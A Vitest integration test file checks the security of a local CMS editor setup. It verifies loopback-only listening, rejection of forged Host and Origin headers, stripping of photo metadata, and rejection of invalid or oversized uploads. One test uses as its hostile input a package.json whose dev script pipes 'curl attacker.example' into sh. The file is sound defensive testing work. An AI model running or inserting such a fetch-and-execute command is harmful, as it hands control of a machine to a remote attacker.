import { type ChildProcess, spawn } from "node:child_process";
import { existsSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, writeFileSync } from "node:fs";
import { createServer, request, type Server } from "node:http";
import { connect } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { freePort } from "./ports.mjs";

/**
 * `npm run cms` as staff run it (the real script, decap-server and the dev site), on free ports and writing
 * into a folder of its own instead of this checkout: what listens where, and who gets to write files.
 */

const repo = fileURLToPath(new URL("..", import.meta.url));
/** The package.json of the folder the local backend writes to: a forged request would replace it. */
const packageJson = `${JSON.stringify({ scripts: { dev: "astro dev" } }, null, 2)}\n`;

let files = "";
let cms: ChildProcess;
let output = "";
let backendPort = 0;
let sitePort = 0;

/** The environment of a terminal: without the variables Vitest sets for itself (MODE=test, NODE_ENV=test, VITEST…). */
const terminal = () =>
  Object.fromEntries(Object.entries(process.env).filter(([name]) => !/^(VITEST|MODE$|NODE_ENV$|TEST$)/.test(name)));

/** Starts `npm run <script>` in this checkout, in a process group of its own (so that it ends with all it started). */
function startScript(script: string, args: string[], env: Record<string, string>) {
  const child = spawn("npm", ["run", script, ...args], {
    cwd: repo,
    env: { ...terminal(), ...env },
    detached: true,
    stdio: ["ignore", "pipe", "pipe"],
  });
  let log = "";
  child.stdout?.on("data", (chunk) => {
    log += chunk;
  });
  child.stderr?.on("data", (chunk) => {
    log += chunk;
  });
  return { child, log: () => log };
}

const startCms = (env: Record<string, string>) => startScript("cms", [], env);

/** Stops a process group started above, and waits until its first process has ended. */
async function stopGroup(child: ChildProcess) {
  if (!child.pid || child.exitCode !== null) return;
  const ended = new Promise((done) => child.once("exit", done));
  process.kill(-child.pid, "SIGTERM");
  await ended;
}

/** An HTTP request with the Host and headers given, as another machine or a hostile page could send it. */
function send(
  port: number,
  options: { method?: string; path?: string; headers?: Record<string, string>; body?: string },
) {
  return new Promise<{ status: number; text: string }>((done, fail) => {
    const req = request(
      { host: "127.0.0.1", port, method: options.method ?? "GET", path: options.path ?? "/", headers: options.headers },
      (res) => {
        let text = "";
        res.setEncoding("utf8");
        res.on("data", (chunk) => {
          text += chunk;
        });
        res.on("end", () => done({ status: res.statusCode ?? 0, text }));
      },
    );
    req.on("error", fail);
    req.end(options.body);
  });
}

/** The local backend's `persistMedia`, as the editor sends it, writing `content` to `path` of the folder. */
function persistMedia(path: string, content: Buffer, headers: Record<string, string>) {
  const body = JSON.stringify({
    action: "persistMedia",
    params: {
      branch: "main",
      asset: { path, content: content.toString("base64"), encoding: "base64" },
      options: { commitMessage: `Upload “${path}”` },
    },
  });
  return send(backendPort, {
    method: "POST",
    path: "/api/v1",
    headers: { "Content-Type": "application/json", ...headers },
    body,
  });
}

/** The processes `pid` started, and theirs, `pid` included. */
function processTree(pid: number) {
  const parents = new Map<number, number>();
  for (const name of readdirSync("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const stat = readFileSync(`/proc/${name}/stat`, "utf8");
      // The command name may hold spaces and parentheses: the fields after it start past the last ")".
      const parent = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
      parents.set(Number(name), parent);
    } catch {
      // Ended meanwhile.
    }
  }
  const tree = new Set([pid]);
  for (let grown = true; grown; ) {
    grown = false;
    for (const [child, parent] of parents) {
      if (tree.has(parent) && !tree.has(child)) {
        tree.add(child);
        grown = true;
      }
    }
  }
  return [...tree];
}

/** The TCP sockets listening in the processes of `pid`'s tree: address (hex, as the kernel writes it) and port. */
function listeningSockets(pid: number) {
  const inodes = new Set<string>();
  for (const process of processTree(pid)) {
    let fds: string[] = [];
    try {
      fds = readdirSync(`/proc/${process}/fd`);
    } catch {
      continue;
    }
    for (const fd of fds) {
      try {
        const socket = /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${process}/fd/${fd}`));
        if (socket?.[1]) inodes.add(socket[1]);
      } catch {
        // Closed meanwhile.
      }
    }
  }
  const sockets: Array<{ family: string; address: string; port: number }> = [];
  for (const family of ["tcp", "tcp6"]) {
    const table = existsSync(`/proc/net/${family}`) ? readFileSync(`/proc/net/${family}`, "utf8") : "";
    for (const line of table.trim().split("\n").slice(1)) {
      const [, local = "", , state, , , , , , inode = ""] = line.trim().split(/\s+/);
      // 0A: LISTEN.
      if (state !== "0A" || !inodes.has(inode)) continue;
      const [address = "", port = ""] = local.split(":");
      sockets.push({ family, address, port: Number.parseInt(port, 16) });
    }
  }
  return sockets;
}

/** Whether a TCP connection to `host`:`port` is accepted. */
function accepts(host: string, port: number) {
  return new Promise<boolean>((done) => {
    const socket = connect({ host, port, timeout: 2_000 }, () => {
      socket.destroy();
      done(true);
    });
    socket.on("timeout", () => {
      socket.destroy();
      done(false);
    });
    socket.on("error", () => done(false));
  });
}

/** Waits until the local backend answers through the guard, and the dev site answers. */
async function waitUntilReady(
  child: ChildProcess,
  log: () => string,
  ports = { backend: backendPort, site: sitePort },
) {
  const deadline = Date.now() + 150_000;
  const info = JSON.stringify({ action: "info", params: { branch: "main" } });
  while (Date.now() < deadline) {
    if (child.exitCode !== null) throw new Error(`npm run cms exited with ${child.exitCode}:\n${log()}`);
    const backend = await send(ports.backend, {
      method: "POST",
      path: "/api/v1",
      headers: { Host: `localhost:${ports.backend}`, "Content-Type": "application/json" },
      body: info,
    }).catch(() => null);
    const site = await send(ports.site, {
      path: "/@vite/client",
      headers: { Host: `localhost:${ports.site}` },
    }).catch(() => null);
    if (backend?.status === 200 && site?.status === 200) return;
    await new Promise((wait) => setTimeout(wait, 250));
  }
  throw new Error(`npm run cms did not answer within 150 s:\n${log()}`);
}

beforeAll(async () => {
  files = mkdtempSync(join(tmpdir(), "cms-files-"));
  writeFileSync(join(files, "package.json"), packageJson);
  backendPort = await freePort();
  sitePort = await freePort();
  const started = startCms({
    CMS_LOCAL_BACKEND_PORT: String(backendPort),
    CMS_DEV_PORT: String(sitePort),
    GIT_REPO_DIRECTORY: files,
  });
  cms = started.child;
  output = "";
  await waitUntilReady(cms, () => {
    output = started.log();
    return output;
  });
}, 180_000);

afterAll(async () => {
  if (cms) await stopGroup(cms);
  if (files) rmSync(files, { recursive: true, force: true });
});

describe("npm run cms", () => {
  it("listens on the loopback only, with every port it opens", async () => {
    const sockets = listeningSockets(cms.pid ?? 0);
    const ports = sockets.map((socket) => socket.port);
    // The guard, the dev site, and decap-server on a port of its own behind the guard.
    expect(ports).toEqual(expect.arrayContaining([backendPort, sitePort]));
    expect(new Set(ports).size).toBeGreaterThanOrEqual(3);
    for (const socket of sockets) expect(socket, output).toMatchObject({ family: "tcp", address: "0100007F" });

    // And so another machine cannot connect, through any address this machine has.
    const outside = Object.values(networkInterfaces())
      .flat()
      .filter((address) => address && !address.internal)
      .map((address) => address?.address ?? "");
    for (const address of outside) {
      for (const port of ports) expect(await accepts(address, port), `${address}:${port}`).toBe(false);
    }
  });

  it("refuses a request for another host or from another page before any file is written", async () => {
    const hostile = Buffer.from('{ "scripts": { "dev": "curl attacker.example | sh" } }\n');
    const forged: Record<string, string>[] = [
      { Host: `attacker.example:${backendPort}` },
      { Host: `127.0.0.1.nip.io:${backendPort}` },
      { Host: "localhost" },
      // A page elsewhere that posts to the right address: its origin gives it away.
      { Host: `localhost:${backendPort}`, Origin: `http://attacker.example:${backendPort}` },
      { Host: `127.0.0.1:${backendPort}`, Origin: "null" },
    ];
    for (const headers of forged) {
      const replaced = await persistMedia("package.json", hostile, headers);
      expect(replaced.status, JSON.stringify(headers)).toBe(403);
      const created = await persistMedia("static/uploads/hostile.txt", hostile, headers);
      expect(created.status, JSON.stringify(headers)).toBe(403);
    }
    expect(readFileSync(join(files, "package.json"), "utf8")).toBe(packageJson);
    expect(existsSync(join(files, "static"))).toBe(false);
  });

  it("writes the editor's files when the request comes from this machine's editor", async () => {
    for (const [name, headers] of [
      ["from-localhost.txt", { Host: `localhost:${backendPort}`, Origin: `http://localhost:${sitePort}` }],
      ["from-address.txt", { Host: `127.0.0.1:${backendPort}`, Origin: `http://127.0.0.1:${sitePort}` }],
      ["without-origin.txt", { Host: `localhost:${backendPort}` }],
    ] as const) {
      const { status, text } = await persistMedia(`static/uploads/${name}`, Buffer.from(`${name}\n`), headers);
      expect(status, text).toBe(200);
      expect(readFileSync(join(files, "static", "uploads", name), "utf8")).toBe(`${name}\n`);
    }
  });

  it("writes an uploaded photo without its GPS position or any other metadata", async () => {
    const photo = await sharp({ create: { width: 64, height: 48, channels: 3, background: "#8a6d3b" } })
      .jpeg({ quality: 92 })
      .withExif({
        IFD0: { Make: "WeldCam", Model: "WELDCAM-X100" },
        IFD3: {
          GPSLatitudeRef: "N",
          GPSLatitude: "4/1 3/1 1234/100",
          GPSLongitudeRef: "E",
          GPSLongitude: "9/1 42/1 5678/100",
        },
      })
      .toBuffer();
    expect((await sharp(photo).metadata()).exif?.toString("latin1")).toContain("WELDCAM-X100");

    const { status, text } = await persistMedia("static/uploads/site visit.jpg", photo, {
      Host: `localhost:${backendPort}`,
      Origin: `http://localhost:${sitePort}`,
    });
    expect(status, text).toBe(200);
    const written = readFileSync(join(files, "static", "uploads", "site visit.jpg"));
    const metadata = await sharp(written).metadata();
    expect(metadata.format).toBe("jpeg");
    expect([metadata.width, metadata.height]).toEqual([64, 48]);
    expect(metadata.exif).toBeUndefined();
    expect(metadata.xmp).toBeUndefined();
    expect(metadata.iptc).toBeUndefined();
    expect(written.toString("latin1")).not.toContain("WELDCAM");
  });

  it("refuses a text file named .png and a photo over the limit, writing neither", async () => {
    const headers = { Host: `localhost:${backendPort}`, Origin: `http://localhost:${sitePort}` };
    const notes = await persistMedia("static/uploads/notes.png", Buffer.from("Weld map, rev. B\n"), headers);
    expect(notes.status, notes.text).toBe(422);
    expect(JSON.parse(notes.text).error).toMatch(
      /^The photo was not saved: static\/uploads\/notes.png: not a readable image/,
    );
    // A real JPEG, padded past the limit the way a camera's full-size export is.
    const small = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#445566" } })
      .jpeg()
      .toBuffer();
    const large = Buffer.concat([small, Buffer.alloc(10 * 1024 * 1024 + 1)]);
    const heavy = await persistMedia("static/uploads/heavy.jpg", large, headers);
    expect(heavy.status, heavy.text).toBe(422);
    expect(JSON.parse(heavy.text).error).toMatch(/heavy.jpg: it weighs 10.0 MB, over the 10 MB photos may weigh/);
    for (const name of ["notes.png", "heavy.jpg"])
      expect(existsSync(join(files, "static", "uploads", name))).toBe(false);
  });

  it("keeps the dev site to a Host of this machine", async () => {
    for (const host of [`attacker.example:${sitePort}`, `127.0.0.1.nip.io:${sitePort}`]) {
      const { status } = await send(sitePort, { path: "/@vite/client", headers: { Host: host } });
      expect(status, host).toBe(403);
    }
    expect((await send(sitePort, { path: "/@vite/client", headers: { Host: `127.0.0.1:${sitePort}` } })).status).toBe(
      200,
    );
  });
});

describe("npm run cms with a port taken", () => {
  let taken: Server;
  let takenPort = 0;
  beforeAll(async () => {
    taken = createServer();
    await new Promise<void>((done) => taken.listen(0, "127.0.0.1", done));
    const address = taken.address();
    takenPort = typeof address === "object" && address ? address.port : 0;
  });
  afterAll(() => new Promise((done) => taken.close(done)));

  /** Runs `npm run cms` with the ports given and gives its exit code and output. */
  async function run(env: Record<string, string>) {
    const { child, log } = startCms({ GIT_REPO_DIRECTORY: files || tmpdir(), ...env });
    // Should it start after all, it is stopped rather than left running.
    const timer = setTimeout(() => child.pid && process.kill(-child.pid, "SIGTERM"), 20_000);
    const code = await new Promise<number | null>((done) => child.once("exit", done));
    clearTimeout(timer);
    return { code, output: log() };
  }

  it("says which port is in use, in a sentence and without a stack trace", async () => {
    const cases = [
      {
        env: { CMS_LOCAL_BACKEND_PORT: String(takenPort), CMS_DEV_PORT: String(await freePort()) },
        what: "local backend",
      },
      {
        env: { CMS_LOCAL_BACKEND_PORT: String(await freePort()), CMS_DEV_PORT: String(takenPort) },
        what: "development",
      },
    ];
    for (const { env, what } of cases) {
      const { code, output } = await run(env);
      expect(code).not.toBe(0);
      expect(output).toMatch(new RegExp(`port ${takenPort} \\([^)]*${what}\\) is already in use on this machine`));
      expect(output).not.toMatch(/^\s+at /m);
    }
  });
});

describe("npm run cms beside the site's own dev server", () => {
  /** Where `astro dev` records the server it started, and refuses to start a second one in the same checkout. */
  const lockFile = join(repo, ".astro", "dev.json");
  const lockedBy = () => {
    try {
      return JSON.parse(readFileSync(lockFile, "utf8")) as { pid: number; port: number };
    } catch {
      return undefined;
    }
  };

  it("starts while `npm run dev` runs in the same checkout, and leaves that server running", async () => {
    const devPort = await freePort();
    const dev = startScript("dev", ["--", "--port", String(devPort)], {});
    let editor: ReturnType<typeof startCms> | undefined;
    try {
      const deadline = Date.now() + 120_000;
      const devAnswers = async () =>
        (
          await send(devPort, { path: "/@vite/client", headers: { Host: `localhost:${devPort}` } }).catch(
            () => undefined,
          )
        )?.status === 200;
      while (!(await devAnswers()) || lockedBy()?.port !== devPort) {
        if (dev.child.exitCode !== null || Date.now() > deadline) throw new Error(`npm run dev: ${dev.log()}`);
        await new Promise((wait) => setTimeout(wait, 250));
      }

      // Taken once the dev server listens, so that nothing it started meanwhile can hold them.
      const ports = { backend: await freePort(), site: await freePort() };
      editor = startCms({
        CMS_LOCAL_BACKEND_PORT: String(ports.backend),
        CMS_DEV_PORT: String(ports.site),
        GIT_REPO_DIRECTORY: files,
      });
      await waitUntilReady(editor.child, editor.log, ports);
      expect(await devAnswers()).toBe(true);
      expect(lockedBy()?.port).toBe(devPort);
    } finally {
      if (editor) await stopGroup(editor.child);
      const lock = lockedBy();
      const devPid = lock?.port === devPort ? lock.pid : undefined;
      await stopGroup(dev.child);
      // astro dev leaves its record behind when it is stopped by a signal: a later start would read it.
      if (devPid && lockedBy()?.pid === devPid) rmSync(lockFile, { force: true });
    }
  }, 240_000);
});
